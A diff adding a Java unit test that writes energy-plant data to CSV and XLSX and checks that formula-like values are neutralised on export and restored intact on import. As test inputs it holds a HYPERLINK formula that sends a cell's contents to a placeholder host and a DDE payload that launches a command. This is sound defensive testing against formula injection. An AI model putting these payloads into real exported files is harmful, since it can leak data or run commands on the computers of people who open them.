@@ -49,6 +49,32 @@ class UnitRoundTripTest extends UnitListTest {
 		assertEquals(FULL.replace("\"note\"", "note"), Files.readString(last));
 	}
 
+	@ParameterizedTest
+	@ValueSource(strings = { "csv", "xlsx" })
+	void whatASpreadsheetWouldTakeForAFormulaIsReadAsItWas(String ending) throws IOException {
+		String park = "=HYPERLINK(\"http://a.example/?\"&A1)";
+		EipModel model = Models.model();
+		model.setDataNote("a note, =1+1;\t@SUM(A1), 3, -4 and '=5");
+		EnergyPlant plant = Models.plant(Models.park(model, park), "'+cmd|' /C calc'!A0");
+		EnergyUnit unit = Models.unit(plant, "U1");
+		unit.setName("@SUM(1)");
+		unit.setDescription("-1+1");
+		Path out = folder.resolve("out." + ending);
+		UnitTable.write(model, out);
+		if (ending.equals("csv")) {
+			assertTrue(Files.readAllLines(out).stream().flatMap(line -> Stream.of(line.split("[,;\t]", -1)))
+					.noneMatch(cell -> cell.replace("\"", "").matches(" *[=+@-].*") && !cell.matches("-?[\\d.]+")));
+		}
+		EipModel again = UnitTable.read(out, ImportOptions.DEFAULT.withModelName("units"), faults);
+		assertEquals(List.of(), texts());
+		EnergyPlant plantAgain = (EnergyPlant) again.getParks().get(0).getInfrastructure().get(0);
+		assertEquals(model.getDataNote(), again.getDataNote());
+		assertEquals(park, again.getParks().get(0).getName());
+		assertEquals(plant.getName(), plantAgain.getName());
+		assertEquals("@SUM(1)", plantAgain.getUnits().get(0).getName());
+		assertEquals("-1+1", plantAgain.getUnits().get(0).getDescription());
+	}
+
 	@Test
 	void aUnitWithoutCoordinatesIsWrittenWithThoseOfItsPlant() throws IOException {
 		String header = HEADER.replace("\n", ",latitude,longitude\n");
